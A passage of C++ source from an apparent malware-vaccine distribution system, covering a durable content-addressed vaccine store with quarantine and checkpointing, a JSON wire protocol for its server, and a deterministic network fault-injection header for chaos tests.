      conflicts_(other.conflicts_),
      benign_identifiers_(std::move(other.benign_identifiers_)),
      path_(std::move(other.path_)),
      fd_(other.fd_),
      sync_(other.sync_),
      torn_tail_(other.torn_tail_) {
  other.fd_ = -1;
}

VaccineStore& VaccineStore::operator=(VaccineStore&& other) noexcept {
  if (this != &other) {
    if (fd_ >= 0) ::close(fd_);
    entries_ = std::move(other.entries_);
    epoch_ = other.epoch_;
    conflicts_ = other.conflicts_;
    benign_identifiers_ = std::move(other.benign_identifiers_);
    path_ = std::move(other.path_);
    fd_ = other.fd_;
    sync_ = other.sync_;
    torn_tail_ = other.torn_tail_;
    other.fd_ = -1;
  }
  return *this;
}

Result<VaccineStore> VaccineStore::Open(const std::string& path) {
  VaccineStore store;
  store.path_ = path;

  std::string text;
  {
    const int fd = ::open(path.c_str(), O_RDONLY);
    if (fd >= 0) {
      char buffer[1 << 16];
      while (true) {
        const ssize_t n = ::read(fd, buffer, sizeof(buffer));
        if (n < 0) {
          if (errno == EINTR) continue;
          const int err = errno;
          ::close(fd);
          return Status::Internal(StrFormat("store read failed: %s",
                                            std::strerror(err)));
        }
        if (n == 0) break;
        text.append(buffer, static_cast<size_t>(n));
      }
      ::close(fd);
    } else if (errno != ENOENT) {
      return Status::Internal(StrFormat("cannot open store %s: %s",
                                        path.c_str(), std::strerror(errno)));
    }
  }

  bool needs_compaction = false;
  if (!text.empty()) {
    // Split into lines; a final chunk without '\n' is a torn tail, the
    // same semantics as the campaign journal.
    std::vector<std::string_view> lines;
    bool tail_unterminated = false;
    size_t pos = 0;
    while (pos < text.size()) {
      const size_t eol = text.find('\n', pos);
      if (eol == std::string::npos) {
        lines.emplace_back(text.data() + pos, text.size() - pos);
        tail_unterminated = true;
        break;
      }
      lines.emplace_back(text.data() + pos, eol - pos);
      pos = eol + 1;
    }

    std::unordered_map<std::string, size_t> by_digest;
    for (size_t i = 0; i < lines.size(); ++i) {
      const bool is_tail = (i + 1 == lines.size());
      auto parsed = ParseJson(lines[i]);
      if (!parsed.ok() || (is_tail && tail_unterminated)) {
        if (is_tail) {
          store.torn_tail_ = true;
          needs_compaction = true;
          break;
        }
        return Status::InvalidArgument(
            StrFormat("store record %zu is corrupt (%s)", i,
                      parsed.status().message().c_str()));
      }
      AUTOVAC_ASSIGN_OR_RETURN(const std::string type,
                               JsonFieldString(parsed.value(), "type"));
      if (i == 0) {
        if (type != "vacstore") {
          return Status::InvalidArgument(
              "first store record is not a vacstore header");
        }
        AUTOVAC_ASSIGN_OR_RETURN(const uint64_t version,
                                 JsonFieldUint64(parsed.value(), "version"));
        if (version != kStoreVersion) {
          return Status::InvalidArgument(
              StrFormat("unsupported store version %llu",
                        static_cast<unsigned long long>(version)));
        }
        continue;
      }
      if (type == "add") {
        StoreEntry entry;
        AUTOVAC_ASSIGN_OR_RETURN(entry.digest,
                                 JsonFieldString(parsed.value(), "digest"));
        AUTOVAC_ASSIGN_OR_RETURN(entry.epoch,
                                 JsonFieldUint64(parsed.value(), "epoch"));
        AUTOVAC_ASSIGN_OR_RETURN(
            entry.quarantined,
            JsonFieldBool(parsed.value(), "quarantined"));
        if (entry.quarantined) {
          AUTOVAC_ASSIGN_OR_RETURN(entry.quarantine_reason,
                                   JsonFieldString(parsed.value(), "reason"));
        }
        const JsonValue* vaccine_json = parsed.value().Find("vaccine");
        if (vaccine_json == nullptr) {
          return Status::InvalidArgument(
              StrFormat("store record %zu has no vaccine", i));
        }
        AUTOVAC_ASSIGN_OR_RETURN(entry.vaccine,
                                 vaccine::VaccineFromJson(*vaccine_json));
        if (vaccine::VaccineDigest(entry.vaccine) != entry.digest) {
          return Status::InvalidArgument(
              StrFormat("store record %zu digest mismatch", i));
        }
        auto [it, inserted] =
            by_digest.emplace(entry.digest, store.entries_.size());
        if (!inserted) {
          needs_compaction = true;  // redundant add; first one wins
          continue;
        }
        store.epoch_ = std::max(store.epoch_, entry.epoch);
        store.entries_.push_back(std::move(entry));
      } else if (type == "quarantine") {
        AUTOVAC_ASSIGN_OR_RETURN(const std::string digest,
                                 JsonFieldString(parsed.value(), "digest"));
        AUTOVAC_ASSIGN_OR_RETURN(const std::string reason,
                                 JsonFieldString(parsed.value(), "reason"));
        auto it = by_digest.find(digest);
        if (it == by_digest.end()) {
          return Status::InvalidArgument(
              StrFormat("store record %zu quarantines unknown digest %s", i,
                        digest.c_str()));
        }
        StoreEntry& entry = store.entries_[it->second];
        entry.quarantined = true;
        entry.quarantine_reason = reason;
        needs_compaction = true;  // fold the record into the add line
      } else {
        return Status::InvalidArgument(
            StrFormat("store record %zu has unknown type '%s'", i,
                      type.c_str()));
      }
    }
  }

  if (needs_compaction || text.empty()) {
    AUTOVAC_RETURN_IF_ERROR(store.Compact());
  } else {
    store.fd_ = ::open(path.c_str(), O_WRONLY | O_APPEND);
    if (store.fd_ < 0) {
      return Status::Internal(StrFormat("cannot append to store %s: %s",
                                        path.c_str(), std::strerror(errno)));
    }
  }
  return store;
}

Status VaccineStore::Compact() {
  if (path_.empty()) return Status::Ok();
  if (fd_ >= 0) {
    ::close(fd_);
    fd_ = -1;
  }
  const std::string temp = path_ + ".compact";
  const int fd = ::open(temp.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) {
    return Status::Internal(StrFormat("cannot create %s: %s", temp.c_str(),
                                      std::strerror(errno)));
  }
  std::string image = HeaderLine();
  for (const StoreEntry& entry : entries_) image += AddLine(entry);
  Status written = WriteAll(fd, image);
  if (written.ok() && ::fsync(fd) != 0) {
    written = Status::Internal(StrFormat("store fsync failed: %s",
                                         std::strerror(errno)));
  }
  if (!written.ok()) {
    ::close(fd);
    ::unlink(temp.c_str());
    return written;
  }
  ::close(fd);
  if (::rename(temp.c_str(), path_.c_str()) != 0) {
    const int err = errno;
    ::unlink(temp.c_str());
    return Status::Internal(StrFormat("store rename failed: %s",
                                      std::strerror(err)));
  }
  fd_ = ::open(path_.c_str(), O_WRONLY | O_APPEND);
  if (fd_ < 0) {
    return Status::Internal(StrFormat("cannot reopen store %s: %s",
                                      path_.c_str(), std::strerror(errno)));
  }
  return Status::Ok();
}

void VaccineStore::SetConflictIndex(
    const analysis::ExclusivenessIndex* index) {
  conflicts_ = index;
  benign_identifiers_ =
      index != nullptr ? index->Identifiers() : std::vector<std::string>();
}

std::optional<std::string> VaccineStore::ConflictReason(
    const vaccine::Vaccine& vaccine) const {
  if (conflicts_ == nullptr) return std::nullopt;
  if (vaccine.identifier_kind == analysis::IdentifierClass::kPartialStatic) {
    for (const std::string& identifier : benign_identifiers_) {
      if (vaccine.pattern.Matches(identifier)) {
        return StrFormat("pattern collides with benign identifier '%s'",
                         identifier.c_str());
      }
    }
    return std::nullopt;
  }
  if (!conflicts_->IsExclusive(vaccine.identifier)) {
    return StrFormat("identifier '%s' is used by benign software",
                     vaccine.identifier.c_str());
  }
  return std::nullopt;
}

Status VaccineStore::AppendLine(const std::string& line) {
  if (fd_ < 0) return Status::Ok();  // in-memory store
  return WriteAll(fd_, line);
}

Status VaccineStore::SyncNow() {
  if (fd_ < 0 || !sync_) return Status::Ok();
  if (::fsync(fd_) != 0) {
    return Status::Internal(StrFormat("store fsync failed: %s",
                                      std::strerror(errno)));
  }
  return Status::Ok();
}

Result<PushStats> VaccineStore::Push(
    const std::vector<vaccine::Vaccine>& vaccines) {
  PushStats stats;
  // The batch joins one epoch, assigned only if something new arrives.
  const uint64_t batch_epoch = epoch_ + 1;
  for (const vaccine::Vaccine& vaccine : vaccines) {
    std::string digest = vaccine::VaccineDigest(vaccine);
    if (FindDigest(digest) != nullptr) {
      ++stats.duplicates;
      continue;
    }
    StoreEntry entry;
    entry.vaccine = vaccine;
    entry.digest = std::move(digest);
    entry.epoch = batch_epoch;
    if (std::optional<std::string> reason = ConflictReason(vaccine);
        reason.has_value()) {
      entry.quarantined = true;
      entry.quarantine_reason = std::move(*reason);
      ++stats.quarantined;
    }
    AUTOVAC_RETURN_IF_ERROR(AppendLine(AddLine(entry)));
    entries_.push_back(std::move(entry));
    ++stats.added;
  }
  if (stats.added > 0) {
    epoch_ = batch_epoch;
    AUTOVAC_RETURN_IF_ERROR(SyncNow());
  }
  stats.epoch = epoch_;
  return stats;
}

Status VaccineStore::Quarantine(std::string_view digest,
                                std::string_view reason) {
  for (StoreEntry& entry : entries_) {
    if (entry.digest != digest) continue;
    if (entry.quarantined) return Status::Ok();
    entry.quarantined = true;
    entry.quarantine_reason = std::string(reason);
    AUTOVAC_RETURN_IF_ERROR(AppendLine(QuarantineLine(digest, reason)));
    return SyncNow();
  }
  return Status::NotFound(StrFormat("no vaccine with digest %s",
                                    std::string(digest).c_str()));
}

Result<size_t> VaccineStore::RescanConflicts() {
  size_t retracted = 0;
  for (StoreEntry& entry : entries_) {
    if (entry.quarantined) continue;
    std::optional<std::string> reason = ConflictReason(entry.vaccine);
    if (!reason.has_value()) continue;
    entry.quarantined = true;
    entry.quarantine_reason = *reason;
    AUTOVAC_RETURN_IF_ERROR(
        AppendLine(QuarantineLine(entry.digest, *reason)));
    ++retracted;
  }
  if (retracted > 0) AUTOVAC_RETURN_IF_ERROR(SyncNow());
  return retracted;
}

std::vector<const StoreEntry*> VaccineStore::Since(uint64_t since) const {
  std::vector<const StoreEntry*> delta;
  for (const StoreEntry& entry : entries_) {
    if (!entry.quarantined && entry.epoch > since) delta.push_back(&entry);
  }
  return delta;
}

const StoreEntry* VaccineStore::FindDigest(std::string_view digest) const {
  for (const StoreEntry& entry : entries_) {
    if (entry.digest == digest) return &entry;
  }
  return nullptr;
}

size_t VaccineStore::served_count() const {
  size_t count = 0;
  for (const StoreEntry& entry : entries_) {
    if (!entry.quarantined) ++count;
  }
  return count;
}

size_t VaccineStore::quarantined_count() const {
  return entries_.size() - served_count();
}

}  // namespace autovac::vacstore
