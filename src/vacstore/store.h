// Content-addressed vaccine store: the collection point between campaign
// output and vaccine distribution (§V's deployment pipeline).
//
// Every vaccine is keyed by the digest of its canonical JSON
// serialization (vaccine/json.h), so re-pushing a campaign — or two
// campaigns that extracted the same vaccine from different samples of a
// family — dedups instead of double-serving. Accepted vaccines join a
// monotonically numbered *feed epoch*: each Push batch that adds at
// least one new vaccine bumps the epoch, and PULL-style delta sync asks
// for "everything after epoch E".
//
// Conflict quarantine: a vaccine whose identifier (or, for
// partial-static vaccines, whose pattern) collides with an identifier
// the benign corpus uses is stored but never served — the §IV-D clinic
// verdict applied at the distribution layer, where evidence from later
// campaigns can still arrive. Quarantine() lets an operator or a fresh
// clinic run retract an already-stored vaccine.
//
// Durability follows the campaign journal (campaign/journal.h): an
// append-only JSONL file whose first line is a header record, fsync'd
// once per Push batch. A crash mid-append leaves a torn tail that Load
// drops; load-time compaction then rewrites the file so the tail damage
// and any folded quarantine records do not accumulate.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "analysis/exclusiveness.h"
#include "support/status.h"
#include "vaccine/vaccine.h"

namespace autovac::vacstore {

inline constexpr uint64_t kStoreVersion = 1;

struct StoreEntry {
  vaccine::Vaccine vaccine;
  std::string digest;          // content address (VaccineDigest)
  uint64_t epoch = 0;          // feed epoch the vaccine joined
  bool quarantined = false;    // stored but never served
  std::string quarantine_reason;
};

struct PushStats {
  size_t added = 0;        // new digests accepted into the feed
  size_t duplicates = 0;   // digests already present
  size_t quarantined = 0;  // of `added`, how many were quarantined
  uint64_t epoch = 0;      // store epoch after the push
};

class VaccineStore {
 public:
  // In-memory store (tests, benches, ephemeral servers).
  VaccineStore() = default;
  ~VaccineStore();
  VaccineStore(VaccineStore&& other) noexcept;
  VaccineStore& operator=(VaccineStore&& other) noexcept;
  VaccineStore(const VaccineStore&) = delete;
  VaccineStore& operator=(const VaccineStore&) = delete;

  // Opens (creating if absent) a durable store at `path`. A torn tail is
  // dropped and the file compacted; corruption before the tail refuses
  // the open, like a campaign journal resume.
  [[nodiscard]] static Result<VaccineStore> Open(const std::string& path);

  // Installs the conflict oracle consulted on every future Push;
  // identifiers the benign corpus touched are cached at call time.
  void SetConflictIndex(const analysis::ExclusivenessIndex* index);

  // Ingests a batch (one campaign's vaccines, a package, one PUSH
  // frame). New digests are appended durably before the stats return.
  [[nodiscard]] Result<PushStats> Push(
      const std::vector<vaccine::Vaccine>& vaccines);

  // Quarantines an already-stored vaccine (new clinic evidence, operator
  // retraction). No-op Ok when the digest is already quarantined.
  [[nodiscard]] Status Quarantine(std::string_view digest,
                                  std::string_view reason);

  // Re-evaluates every served entry against the current conflict index,
  // quarantining hits; returns how many were retracted.
  [[nodiscard]] Result<size_t> RescanConflicts();

  // All entries in insertion (= feed) order, quarantined included.
  [[nodiscard]] const std::vector<StoreEntry>& entries() const {
    return entries_;
  }

  // Served (non-quarantined) entries with epoch > `since`, feed order —
  // the PULL delta payload.
  [[nodiscard]] std::vector<const StoreEntry*> Since(uint64_t since) const;

  [[nodiscard]] const StoreEntry* FindDigest(std::string_view digest) const;

  [[nodiscard]] uint64_t epoch() const { return epoch_; }
  [[nodiscard]] size_t served_count() const;
  [[nodiscard]] size_t quarantined_count() const;
  [[nodiscard]] bool persistent() const { return fd_ >= 0; }
  // True when Open dropped a torn tail record (and compacted it away).
  [[nodiscard]] bool repaired_torn_tail() const { return torn_tail_; }

  // Benchmarks only: skip the per-batch fsync.
  void set_sync(bool sync) { sync_ = sync; }

 private:
  [[nodiscard]] std::optional<std::string> ConflictReason(
      const vaccine::Vaccine& vaccine) const;
  [[nodiscard]] Status AppendLine(const std::string& line);
  [[nodiscard]] Status SyncNow();
  // Rewrites `path` from in-memory state (temp file + rename).
  [[nodiscard]] Status Compact();

  std::vector<StoreEntry> entries_;
  uint64_t epoch_ = 0;
  const analysis::ExclusivenessIndex* conflicts_ = nullptr;
  std::vector<std::string> benign_identifiers_;
  std::string path_;
  int fd_ = -1;
  bool sync_ = true;
  bool torn_tail_ = false;
};

}  // namespace autovac::vacstore
