// Content-addressed vaccine store: the collection point between campaign
// output and vaccine distribution (§V's deployment pipeline).
//
// Every vaccine is keyed by the digest of its canonical JSON
// serialization (vaccine/json.h), so re-pushing a campaign — or two
// campaigns that extracted the same vaccine from different samples of a
// family — dedups instead of double-serving. Accepted vaccines join a
// monotonically numbered *feed epoch*: each Push batch that adds at
// least one new vaccine bumps the epoch, and PULL-style delta sync asks
// for "everything after epoch E".
//
// Conflict quarantine: a vaccine whose identifier (or, for
// partial-static vaccines, whose pattern) collides with an identifier
// the benign corpus uses is stored but never served — the §IV-D clinic
// verdict applied at the distribution layer, where evidence from later
// campaigns can still arrive. Quarantine() lets an operator or a fresh
// clinic run retract an already-stored vaccine.
//
// Durability follows the campaign journal (campaign/journal.h): an
// append-only JSONL file whose first line is a header record. A Push
// batch appends its add records followed by one commit record, then
// fsyncs — the commit is the batch's atomicity point, so a crash
// mid-push is invisible after reload (adds without a commit are dropped,
// the store is pre-push or post-push, never partial). A torn tail is
// likewise dropped, and load-time rewriting keeps neither from
// accumulating.
//
// Bounded recovery: Checkpoint() snapshots the full state into
// `<path>.ckpt` (digest-verified, written via temp file + rename) and
// rotates the journal down to a header that records the checkpoint
// epoch. Reload then replays only the post-checkpoint journal suffix —
// O(delta-since-checkpoint) instead of O(history). A torn or corrupt
// checkpoint falls back to a full journal replay when the journal still
// holds the full history, and refuses loudly when it does not.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "analysis/exclusiveness.h"
#include "support/status.h"
#include "vaccine/pipeline.h"
#include "vaccine/vaccine.h"

namespace autovac::vacstore {

// Version 3: quarantines bump the feed epoch and every entry carries a
// change epoch, so delta sync can ship retractions as tombstones.
inline constexpr uint64_t kStoreVersion = 3;

struct StoreEntry {
  vaccine::Vaccine vaccine;
  std::string digest;          // content address (VaccineDigest)
  uint64_t epoch = 0;          // feed epoch the vaccine joined
  // Feed epoch of the last state change: the add epoch, or the epoch of
  // a later quarantine. Delta sync keys on this, so a retraction reaches
  // clients that already hold the vaccine.
  uint64_t change_epoch = 0;
  bool quarantined = false;    // stored but never served
  std::string quarantine_reason;
};

struct PushStats {
  size_t added = 0;        // new digests accepted into the feed
  size_t duplicates = 0;   // digests already present
  size_t quarantined = 0;  // of `added`, how many were quarantined
  uint64_t epoch = 0;      // store epoch after the push
};

class VaccineStore {
 public:
  // In-memory store (tests, benches, ephemeral servers).
  VaccineStore() = default;
  ~VaccineStore();
  VaccineStore(VaccineStore&& other) noexcept;
  VaccineStore& operator=(VaccineStore&& other) noexcept;
  VaccineStore(const VaccineStore&) = delete;
  VaccineStore& operator=(const VaccineStore&) = delete;

  // Opens (creating if absent) a durable store at `path`. Loads the
  // checkpoint when one is present and valid, then replays the journal
  // suffix; a torn tail or an uncommitted batch is dropped and the file
  // rewritten; corruption before the tail refuses the open, like a
  // campaign journal resume.
  [[nodiscard]] static Result<VaccineStore> Open(const std::string& path);

  // Installs the conflict oracle consulted on every future Push;
  // identifiers the benign corpus touched are cached at call time.
  void SetConflictIndex(const analysis::ExclusivenessIndex* index);

  // Ingests a batch (one campaign's vaccines, a package, one PUSH
  // frame). New digests are appended durably — add records plus one
  // commit record, one fsync — before the stats return.
  [[nodiscard]] Result<PushStats> Push(
      const std::vector<vaccine::Vaccine>& vaccines);

  // Quarantines an already-stored vaccine (new clinic evidence, operator
  // retraction). Bumps the feed epoch so delta-syncing clients learn of
  // the retraction. No-op Ok when the digest is already quarantined.
  [[nodiscard]] Status Quarantine(std::string_view digest,
                                  std::string_view reason);

  // Re-evaluates every served entry against the current conflict index,
  // quarantining hits; returns how many were retracted.
  [[nodiscard]] Result<size_t> RescanConflicts();

  // Snapshots the full store into `<path>.ckpt` (temp file + fsync +
  // rename, trailer digest over the image) and rotates the journal down
  // to a header marking the checkpoint epoch. No-op Ok for in-memory
  // stores. Crash-safe at every step: the journal is only rotated after
  // the checkpoint rename, and reload handles the overlap window.
  [[nodiscard]] Status Checkpoint();

  // fsyncs the journal even when set_sync(false) deferred per-batch
  // syncs — the draining-shutdown flush.
  [[nodiscard]] Status Flush();

  // All entries in insertion (= feed) order, quarantined included.
  [[nodiscard]] const std::vector<StoreEntry>& entries() const {
    return entries_;
  }

  // The PULL delta payload: everything a client synced to `since` needs
  // to converge on the served set, ordered by change epoch (so the
  // change epoch of the last item received is an exact resume cursor).
  // That is: served entries with change_epoch > since, plus *tombstones*
  // — quarantined entries whose add epoch is <= since (the client may
  // hold them) and whose quarantine happened after `since`. A full pull
  // (since = 0) therefore never contains tombstones; it is exactly the
  // served set in feed order.
  [[nodiscard]] std::vector<const StoreEntry*> Since(uint64_t since) const;

  [[nodiscard]] const StoreEntry* FindDigest(std::string_view digest) const;

  [[nodiscard]] uint64_t epoch() const { return epoch_; }
  [[nodiscard]] size_t served_count() const;
  [[nodiscard]] size_t quarantined_count() const;
  [[nodiscard]] bool persistent() const { return fd_ >= 0; }
  // True when Open dropped a torn tail record (and rewrote the file).
  [[nodiscard]] bool repaired_torn_tail() const { return torn_tail_; }
  // True when Open dropped complete add records with no commit — a crash
  // landed between a batch's adds and its commit.
  [[nodiscard]] bool dropped_uncommitted_batch() const {
    return dropped_uncommitted_;
  }
  // True when Open restored state from `<path>.ckpt`.
  [[nodiscard]] bool checkpoint_loaded() const { return checkpoint_loaded_; }
  // True when a checkpoint file existed but was torn/corrupt and Open
  // fell back to a full journal replay.
  [[nodiscard]] bool checkpoint_fallback() const {
    return checkpoint_fallback_;
  }
  // Journal records replayed by Open after the header — the recovery
  // cost the checkpoint bounds to O(delta), and what the serving bench
  // gates.
  [[nodiscard]] size_t replayed_records() const { return replayed_records_; }
  // Feed epoch covered by the last known checkpoint: set when Open loads
  // one and when Checkpoint() succeeds; 0 = no checkpoint yet. Surfaced
  // through vacd STATUS so operators can see recovery staying O(delta).
  [[nodiscard]] uint64_t checkpoint_epoch() const { return checkpoint_epoch_; }

  // Benchmarks only: skip the per-batch fsync.
  void set_sync(bool sync) { sync_ = sync; }

  // Crash-test hook: SIGKILL the process after exactly `n` more journal
  // bytes are written (the partial bytes do land first). Lets a forked
  // chaos test iterate every byte of a push as a crash point. Negative
  // disables.
  void set_crash_after_bytes(int64_t n) { crash_after_bytes_ = n; }

 private:
  struct CheckpointImage {
    std::vector<StoreEntry> entries;
    uint64_t epoch = 0;
  };

  // Reads and verifies `<path>.ckpt`. `*present` reports whether the
  // file existed at all; a present-but-invalid checkpoint returns
  // nullopt with the reason in `*error`.
  [[nodiscard]] static std::optional<CheckpointImage> LoadCheckpoint(
      const std::string& ckpt_path, bool* present, std::string* error);

  [[nodiscard]] std::optional<std::string> ConflictReason(
      const vaccine::Vaccine& vaccine) const;
  [[nodiscard]] Status AppendBytes(const std::string& bytes);
  [[nodiscard]] Status SyncNow();
  // Rewrites `path` from in-memory state (temp file + rename) as a full
  // base-epoch-0 journal.
  [[nodiscard]] Status Compact();
  void IndexEntries();

  std::vector<StoreEntry> entries_;
  // digest -> entries_ position; keeps Push O(batch) instead of
  // O(batch * store).
  std::unordered_map<std::string, size_t> index_of_digest_;
  uint64_t epoch_ = 0;
  const analysis::ExclusivenessIndex* conflicts_ = nullptr;
  std::vector<std::string> benign_identifiers_;
  std::string path_;
  int fd_ = -1;
  bool sync_ = true;
  bool torn_tail_ = false;
  bool dropped_uncommitted_ = false;
  bool checkpoint_loaded_ = false;
  bool checkpoint_fallback_ = false;
  size_t replayed_records_ = 0;
  uint64_t checkpoint_epoch_ = 0;
  int64_t crash_after_bytes_ = -1;
};

// Detonation → immunization handoff: pushes every vaccine a campaign
// extracted into the store as one batch (one feed epoch, one fsync),
// skipping samples that produced none. The fleet coordinator calls this
// with its merged report so freshly extracted vaccines are immediately
// pullable by the rest of the fleet.
[[nodiscard]] Result<PushStats> IngestCampaignReport(
    VaccineStore& store, const vaccine::CampaignReport& report);

}  // namespace autovac::vacstore
