// vacd wire protocol: one JSON request frame in, one JSON reply frame
// out, connection per request.
//
// Requests are tagged by "op":
//   {"op":"push","vaccines":[<vaccine json>...]}
//   {"op":"query","resource":<enum>,"identifier":"..."}
//   {"op":"pull","since":<epoch>}
//   {"op":"quarantine","digest":"...","reason":"..."}
//   {"op":"status"}
// Replies echo the op and carry {"ok":true,...}; failures are
//   {"ok":false,"busy":<bool>,"error":"..."}
// where busy=true is the explicit overload shed — the client should back
// off and retry, nothing about the request was wrong.
//
// Vaccines travel as their canonical JSON (vaccine/json.h), so a PULL
// reply is deterministic: the same store contents serialize to the same
// bytes before and after a server restart, which the sync tests assert.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <variant>
#include <vector>

#include "os/resources.h"
#include "support/status.h"
#include "vaccine/vaccine.h"

namespace autovac::net {

struct PushRequest {
  std::vector<vaccine::Vaccine> vaccines;
  // Client-generated idempotency key: a retried push carries the same id
  // and the server's dedup window answers it with the recorded reply
  // instead of re-applying the batch. Empty = no dedup requested.
  std::string request_id;
};

struct QueryRequest {
  os::ResourceType resource_type = os::ResourceType::kFile;
  std::string identifier;
};

struct PullRequest {
  uint64_t since = 0;  // feed epoch the client already has
  // Page size: at most this many items per reply, extended so a feed
  // epoch is never split across pages (which keeps "since" an exact
  // resume cursor). 0 = the whole delta in one reply.
  uint64_t limit = 0;
};

// Operator retraction over the wire: quarantines an already-stored
// vaccine by digest, bumping the feed epoch so delta-syncing clients
// receive the tombstone.
struct QuarantineRequest {
  std::string digest;
  std::string reason;
};

struct StatusRequest {};

using Request = std::variant<PushRequest, QueryRequest, PullRequest,
                             QuarantineRequest, StatusRequest>;

struct PushReply {
  uint64_t added = 0;
  uint64_t duplicates = 0;
  uint64_t quarantined = 0;
  uint64_t epoch = 0;
};

struct QueryReply {
  // Served vaccines matching the identifier, feed order.
  std::vector<vaccine::Vaccine> matches;
};

// One feed record: the vaccine plus its content address and change
// epoch, so a client can resume a sync with "since" and dedup by
// digest. A quarantined item is a *tombstone* — "drop this digest" —
// which a delta pull serves to clients that already hold the vaccine;
// full pulls (since = 0) never contain one, which keeps their bytes
// identical to the pre-tombstone protocol.
struct FeedItem {
  std::string digest;
  uint64_t epoch = 0;  // change epoch (add, or later quarantine)
  vaccine::Vaccine vaccine;
  bool quarantined = false;
};

struct PullReply {
  uint64_t epoch = 0;  // store epoch at reply time
  // True when a limit truncated the delta: pull again with since = the
  // epoch of the last item received to resume.
  bool more = false;
  std::vector<FeedItem> items;
};

struct StatusReply {
  uint64_t epoch = 0;
  uint64_t served = 0;
  uint64_t quarantined = 0;
  uint64_t requests = 0;  // served requests since start
  uint64_t shed = 0;      // connections refused with busy
  uint64_t evicted = 0;   // slow clients evicted on a write deadline
  // Recovery/ops telemetry for fleet operators (optional on the wire so
  // old clients and replies interoperate):
  // feed epoch covered by the last checkpoint (0 = none yet) — how much
  // a restart would have to replay;
  uint64_t checkpoint_epoch = 0;
  // journal records the store replayed at load — the O(delta) recovery
  // cost actually paid on the last start;
  uint64_t replayed = 0;
  // push dedup-window hits since start — how often the idempotency
  // window absorbed a retried upload.
  uint64_t dedup_hits = 0;
};

struct QuarantineReply {
  uint64_t epoch = 0;   // store epoch after the retraction
  bool already = false;  // digest was quarantined before this request
};

struct ErrorReply {
  bool busy = false;  // overload shed, retry later
  std::string message;
};

using Reply = std::variant<PushReply, QueryReply, PullReply, QuarantineReply,
                           StatusReply, ErrorReply>;

[[nodiscard]] std::string RequestToJson(const Request& request);
[[nodiscard]] Result<Request> ParseRequest(std::string_view text);

[[nodiscard]] std::string ReplyToJson(const Reply& reply);
[[nodiscard]] Result<Reply> ParseReply(std::string_view text);

}  // namespace autovac::net
