// Deterministic network-fault injection for the vacd wire protocol —
// sandbox/faults.h applied to sockets instead of API calls.
//
// A hostile network fails in a handful of canonical ways: the connect is
// refused, the stream is severed mid-frame at byte N, reads and writes
// come back short or interrupted, the peer stalls, a request is delivered
// twice. A NetFaultPlan describes such a network as data — seedable and
// bit-for-bit reproducible — and a NetFaultInjector replays it one
// connection at a time, so a chaos test can iterate every cut point of a
// frame and CI can replay the exact failure a campaign saw.
//
// Two delivery mechanisms share the plan:
//   * the in-process wire shim (InstallWireFaults): frame.cc and
//     client.cc route their socket IO through Wire{Connect,Send,Recv},
//     which degrade to the raw syscalls (one relaxed atomic load) when no
//     plan is installed — production pays nothing;
//   * the ChaosProxy (chaosproxy.h): a frame-aware relay that applies the
//     same per-connection verdicts between a real client and a real
//     server, usable from tests and the `chaos-proxy` CLI subcommand.
#pragma once

#include <sys/socket.h>

#include <cstdint>
#include <string>
#include <vector>

#include "support/rng.h"

namespace autovac::net {

// Which side of a connection's life a rule applies to.
enum class NetFaultOp : uint8_t {
  kConnect = 0,  // connection establishment
  kSend,         // client -> server stream
  kRecv,         // server -> client stream
};

[[nodiscard]] const char* NetFaultOpName(NetFaultOp op);

// What a triggered rule does to the matched connection.
enum class NetFaultAction : uint8_t {
  kRefuse = 0,  // connect: fail with ECONNREFUSED
  kCutAtByte,   // send/recv: sever the stream after `byte_offset` bytes
  kShortIo,     // send/recv: every transfer moves at most one byte
  kEintr,       // send/recv: one spurious EINTR before the first byte
  kStall,       // connect: sleep `stall_ms` before proceeding
  kDuplicate,   // proxy only: deliver the request frame twice
};

[[nodiscard]] const char* NetFaultActionName(NetFaultAction action);

// One injection rule. Matches connections by index and triggers either on
// an exact connection index, on a modulus, or with a probability.
struct NetFaultRule {
  NetFaultOp op = NetFaultOp::kConnect;
  // Fires exactly once, on the `occurrence`-th connection (0-based);
  // negative = trigger by `every` or by probability instead.
  int32_t occurrence = -1;
  // > 0: fires on every connection whose index is a multiple of `every`
  // (the deterministic "every Nth request" knob for chaos-proxy demos).
  int32_t every = 0;
  double probability = 0.0;  // per-connection chance when neither matches
  NetFaultAction action = NetFaultAction::kRefuse;
  int64_t byte_offset = 0;  // kCutAtByte: stream offset of the severance
  uint64_t stall_ms = 0;    // kStall
};

// Combined verdict for one connection, decided at connect time so a
// single decision covers both directions of the stream.
struct ConnectionFaults {
  bool refuse = false;
  int64_t cut_send_at = -1;  // client->server offset to sever at; -1 never
  int64_t cut_recv_at = -1;  // server->client offset; -1 never
  bool short_send = false;
  bool short_recv = false;
  bool eintr_send = false;
  bool eintr_recv = false;
  uint64_t stall_ms = 0;
  bool duplicate = false;

  [[nodiscard]] bool Clean() const;
  // One-line description for logs ("refuse", "cut_send@13 dup", ...).
  [[nodiscard]] std::string Summary() const;
};

// A reproducible network-fault schedule. Immutable once built — per-run
// state lives in the NetFaultInjector, so one plan can serve a whole
// chaos campaign.
class NetFaultPlan {
 public:
  NetFaultPlan() = default;
  explicit NetFaultPlan(uint64_t seed) : seed_(seed) {}

  void AddRule(NetFaultRule rule) { rules_.push_back(rule); }

  [[nodiscard]] uint64_t seed() const { return seed_; }
  [[nodiscard]] const std::vector<NetFaultRule>& rules() const {
    return rules_;
  }
  [[nodiscard]] bool empty() const { return rules_.empty(); }

  // Chaos-campaign generator: a randomized but fully seed-determined mix
  // of refusals, mid-frame cuts at drawn offsets, short IO, spurious
  // EINTR, stalls and duplicate delivery. `fault_rate` is the approximate
  // per-connection probability of each disruptive rule.
  [[nodiscard]] static NetFaultPlan Randomized(uint64_t seed,
                                               double fault_rate);

  // One-line description for logs and CLI banners.
  [[nodiscard]] std::string Summary() const;

 private:
  uint64_t seed_ = 0;
  std::vector<NetFaultRule> rules_;
};

// Per-run dispatcher: owns the connection counter and the probability
// stream, so two runs under the same plan fault identical connections.
// Holds its own copy of the plan, so a temporary is fine to construct
// from. Not thread-safe by itself; the wire shim and the proxy
// serialize calls.
class NetFaultInjector {
 public:
  explicit NetFaultInjector(NetFaultPlan plan);

  // Advances the injector's state and returns the verdict for the next
  // connection.
  [[nodiscard]] ConnectionFaults OnConnect();

